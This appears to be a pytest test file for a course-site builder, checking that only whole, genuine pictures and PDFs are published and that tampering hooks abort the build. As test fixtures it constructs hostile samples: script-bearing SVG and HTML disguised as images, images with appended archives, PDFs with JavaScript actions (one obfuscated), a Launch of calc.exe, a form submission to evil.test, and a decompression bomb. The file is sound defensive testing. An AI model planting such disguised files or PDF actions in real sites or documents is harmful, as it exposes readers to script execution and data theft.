"""What is copied beside pages: only pictures and PDFs, whole and alone, and nothing that takes the place of the site's own files."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from pathlib import Path

import pytest

from library_kit import findings, module, picture, run, small_library, tree, write

PLAN = "content/modules/circles/draw-the-plan"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def archive() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        opened.writestr("index.html", "<script>alert(1)</script>")
    return made.getvalue()


def gif(*, end: bytes = b"\x3b") -> bytes:
    """One point, grey."""
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x80\x80\x80\x00\x00\x00" + b"\x2c\0\0\0\0\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00" + end
    )


def jpeg() -> bytes:
    """The frame of a picture: a segment of each kind around some data."""
    segments = b"\xff\xe0\x00\x04ab\xff\xdb\x00\x03c\xff\xda\x00\x03d" + b"1\xff\x002\xff\xd73" + b"\xff\xc4\x00\x02"
    return b"\xff\xd8" + segments + b"\xff\xd9"


def webp() -> bytes:
    return b"RIFF" + struct.pack("<I", 16) + b"WEBPVP8L" + struct.pack("<I", 4) + b"\x2f\0\0\0"


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, text) for number, text in enumerate(objects, 1)) + b"%%EOF\n"


def packed(text: bytes, *, more: bytes = b"") -> bytes:
    return b"<< /Type /ObjStm /Filter /FlateDecode %s >>\nstream\r\n%s\nendstream" % (more, zlib.compress(text))


PROGRAM = b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"

SOUND: dict[str, bytes] = {
    "a.png": picture(),
    "a.gif": gif(),
    "without-end.gif": gif(end=b""),
    "a.jpg": jpeg(),
    "b.jpeg": jpeg() + b"\0\0\r\n",
    "a.webp": webp(),
    "a.pdf": pdf(b"<< /Type /Catalog >>", packed(b"<< /Type /Page >>")),
    "LOUD.PNG": picture(),
}

UNSOUND: dict[str, tuple[bytes, str]] = {
    "page.png": (b"<!doctype html><script>alert(1)</script>", "is not what '.png' promises"),
    "drawing.png": (SVG, "is not what '.png' promises"),
    "archive.png": (archive(), "is not what '.png' promises"),
    "drawing.webp": (SVG, "is not what '.webp' promises"),
    "sound.webp": (b"RIFF" + struct.pack("<I", 4) + b"WAVE", "is not what '.webp' promises"),
    "picture.pdf": (picture(), "is not what '.pdf' promises"),
    "and-archive.png": (picture() + archive(), "of something else follow"),
    "and-page.gif": (gif() + b"<script>alert(1)</script>", "of something else follow"),
    "and-archive.jpg": (jpeg() + archive(), "of something else follow"),
    "and-page.webp": (webp() + b"<script>", "of something else follow"),
    "and-archive.pdf": (pdf(b"<<>>") + archive(), "of something else follow"),
    "script.gif": (b"GIF89a/*" + b"*/=1;alert(1)//" + b"\0" * 20, "broken or cut off"),
    "half.png": (picture()[:40], "broken or cut off"),
    "empty.png": (picture()[:8] + picture()[-12:], "broken or cut off"),
    "half.jpg": (jpeg()[:-4], "broken or cut off"),
    "half.gif": (gif()[:30], "broken or cut off"),
    "half.webp": (webp()[:-2], "broken or cut off"),
    "half.pdf": (b"%PDF-1.7\n", "broken or cut off"),
    "program.pdf": (pdf(PROGRAM), "it holds a program in JavaScript"),
    "program-in-disguise.pdf": (pdf(PROGRAM.replace(b"JavaScript", b"J#61vaScr#69pt")), "it holds a program in JavaScript"),
    "packed-program.pdf": (pdf(packed(PROGRAM)), "it holds a program in JavaScript"),
    "packed-again.pdf": (pdf(packed(b"x", more=b"/DecodeParms << /Predictor 12 >>")), "in a way that nobody can look into"),
    "packed-otherwise.pdf": (pdf(packed(b"x").replace(b"x\x9c", b"zz")), "in a way that nobody can look into"),
    "bomb.pdf": (pdf(packed(b"\0" * 40_000_000)), "in a way that nobody can look into"),
    "many-packed.pdf": (pdf(*[packed(b"x")] * 40_000), "in a way that nobody can look into"),
    "launch.pdf": (pdf(b"<< /S /Launch /F (calc.exe) >>"), "it starts a program"),
    "files.pdf": (pdf(b"<< /Type /EmbeddedFile >>"), "it holds other files"),
    "form.pdf": (pdf(b"<< /S /SubmitForm /F (https://evil.test/) >>"), "it sends what readers fill in"),
    "locked.pdf": (pdf(b"<< /Encrypt 2 0 R >>"), "it is encrypted"),
}


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small library with sound and unsound files beside a module; its baseline accepts whatever is wrong."""
    links = "".join(f"![A picture]({name})\n" for name in (*SOUND, *UNSOUND))
    files = {f"{PLAN}/{name}": raw for name, raw in SOUND.items()} | {f"{PLAN}/{name}": raw for name, (raw, _) in UNSOUND.items()}
    plan = module("draw-the-plan", f"## The plan\n\n![Two by two points](plan.png)\n\n{links}")
    return small_library(tmp_path_factory.mktemp("fichiers") / "petite bibliothèque", {**files, f"{PLAN}/index.md": plan})


@pytest.fixture(scope="module")
def said(library: Path) -> dict[str, str]:
    found = [finding for finding in findings(library) if finding["code"] == "R015"]
    return {finding["file"].removeprefix(f"{PLAN}/"): finding["message"] for finding in found}


@pytest.fixture(scope="module")
def published(library: Path, said: dict[str, str]) -> tuple[dict[str, bytes], str]:
    """The files of the site, and what the build said."""
    assert run("check", "--write-baseline", cwd=library).code == 0
    outcome = run("build", cwd=library)
    assert outcome.code == 0, outcome
    return tree(library / "site"), outcome.out


def test_whole_pictures_and_documents_are_no_finding(said: dict[str, str]) -> None:
    assert SOUND.keys() & said.keys() == set()


@pytest.mark.parametrize("name", UNSOUND)
def test_a_file_that_is_not_what_it_says_is_refused(said: dict[str, str], name: str) -> None:
    assert UNSOUND[name][1] in said[name]


def test_a_second_check_says_the_same(library: Path, said: dict[str, str]) -> None:
    again = {finding["file"].rpartition("/")[2]: finding["message"] for finding in findings(library) if finding["code"] == "R015"}
    assert again == said


def test_the_publisher_copies_what_is_sound_alone(published: tuple[dict[str, bytes], str]) -> None:
    files, said = published
    folder = "modules/circles/draw-the-plan/"
    copied = {name.removeprefix(folder): raw for name, raw in files.items() if name.startswith(folder)}
    assert copied.keys() == {"index.html", "plan.png", *SOUND}
    assert {name: copied[name] for name in SOUND} == SOUND
    for name in UNSOUND:
        assert f"left out: {PLAN}/{name}: " in said


def test_a_file_that_changed_since_it_was_checked_is_not_trusted(tmp_path: Path) -> None:
    library = small_library(tmp_path / "course")
    swap = f"import pathlib\ndef on_startup(**_):\n    pathlib.Path({str(library / PLAN / 'plan.png')!r}).write_text('<script>')\n"
    write(library / "hook.py", swap)
    write(library / "mkdocs.yml", (library / "mkdocs.yml").read_text("utf-8") + "hooks: [hook.py]\n")
    outcome = run("build", cwd=library)
    assert outcome.code == 2
    assert "plan.png changed while the library was read" in outcome.err
    assert not (library / "site/index.html").exists()


@pytest.mark.parametrize(
    "name", ["evil.html", "CNAME", "_headers", "sw.js", "assets/peerlore.css", "assets/more.js", "modules/circles/ask-a-question/x.svg"]
)
def test_a_file_that_nobody_expected_keeps_the_old_site(tmp_path: Path, name: str) -> None:
    library = small_library(tmp_path / "intrus")
    put = f"import pathlib\ndef on_post_build(config, **_):\n    (pathlib.Path(config['site_dir']) / {name!r}).write_text('x')\n"
    write(library / "hook.py", put)
    write(library / "mkdocs.yml", (library / "mkdocs.yml").read_text("utf-8") + "hooks: [hook.py]\n")
    outcome = run("build", cwd=library)
    assert outcome.code == 2
    why = "is not that of the site's theme" if name == "assets/peerlore.css" else "does not belong on the site"
    assert f"the file {name} {why}" in outcome.err
    assert not (library / "site/index.html").exists()
